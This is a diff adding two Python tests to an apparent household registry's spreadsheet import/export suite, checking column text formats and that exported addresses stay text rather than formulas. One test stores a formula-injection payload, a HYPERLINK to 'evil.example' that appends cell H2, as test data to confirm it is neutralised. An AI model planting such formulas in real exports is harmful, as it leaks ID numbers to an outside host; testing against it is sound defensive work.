@@ -272,3 +272,28 @@ def test_field_roles_cannot_import(upload, api, make_user, role):
     assert upload(household_rows("WN-1"), user=worker).status_code == 403
     assert api(worker).get(f"{URL}/template.xlsx").status_code == 403
     assert count(Job) == 0
+
+
+def test_the_templates_number_columns_are_text_to_the_bottom(api, boss):
+    response = api(boss).get("/api/v1/imports/households/template.xlsx")
+    sheet = load_workbook(io.BytesIO(response.get_data())).worksheets[0]
+    response.close()
+    columns = sheet.column_dimensions
+    # ID, card and phone (H, I, J): text on rows not written yet too.
+    assert [columns[c].number_format for c in "HIJ"] == ["@", "@", "@"]
+    assert columns["K"].number_format == "General"  # latitude is a number
+    assert columns["N"].number_format == "yyyy-mm-dd"  # status day
+
+
+def test_typed_text_is_exported_as_text_never_as_a_formula(
+    api, upload, boss, make_household
+):
+    formula = '=HYPERLINK("http://evil.example/"&H2,"点击")'
+    make_household(TOWN, address=formula)
+    response = api(boss).get("/api/v1/exports/households.xlsx")
+    exported = response.get_data()
+    response.close()
+    cell = load_workbook(io.BytesIO(exported)).worksheets[0]["D2"]
+    assert (cell.value, cell.data_type) == (formula, "s")
+    again = upload(exported).get_json()  # and it comes back as typed
+    assert again["error_count"] == 0 and again["households_unchanged"] == 1
